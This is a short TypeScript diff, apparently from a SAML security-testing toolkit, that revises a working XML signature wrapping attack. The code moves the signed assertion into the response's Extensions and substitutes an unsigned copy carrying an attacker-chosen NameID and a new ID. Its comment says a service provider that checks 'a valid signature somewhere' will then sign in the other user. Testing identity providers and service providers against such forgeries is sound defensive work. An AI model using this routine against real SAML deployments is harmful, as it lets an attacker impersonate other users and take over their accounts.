@@ -37,21 +37,21 @@ export function commentInsideNameId(responseXml: string, at: number): string {
 }
 
 /**
- * XML signature wrapping: the signed assertion is moved into the response's Extensions, where
- * its signature still verifies, and an evil copy (another NameID, another ID, carrying the
- * original's Signature, which points at the moved one) takes its place where the SP reads.
+ * XML signature wrapping: the signed assertion is moved, untouched, into the response's
+ * Extensions, where its signature still verifies; an unsigned copy naming another user (and
+ * with another ID) takes its place where the SP reads. An SP that checks "a valid signature
+ * somewhere" and reads "the assertion" signs that other user in.
  */
 export function wrapSignature(responseXml: string, evilNameId: string): string {
   const doc = parse(responseXml);
   const response = doc.documentElement as unknown as Element;
   const signed = firstChild(response, SAML, 'Assertion');
-  if (!signed) throw new Error('no assertion to wrap');
+  const signature = signed && firstChild(signed, DS, 'Signature');
+  if (!signed || !signature) throw new Error('no signed assertion to wrap');
   const evil = signed.cloneNode(true) as Element;
+  evil.removeChild(firstChild(evil, DS, 'Signature')!);
   evil.setAttribute('ID', `_evil${signed.getAttribute('ID')}`);
-  const nameId = firstChild(firstChild(evil, SAML, 'Subject')!, SAML, 'NameID')!;
-  nameId.textContent = evilNameId;
-  const signature = firstChild(signed, DS, 'Signature');
-  if (!signature) throw new Error('the assertion is not signed');
+  firstChild(firstChild(evil, SAML, 'Subject')!, SAML, 'NameID')!.textContent = evilNameId;
   const extensions = doc.createElementNS(SAMLP, 'samlp:Extensions');
   response.replaceChild(evil, signed as never);
   extensions.appendChild(signed as never);
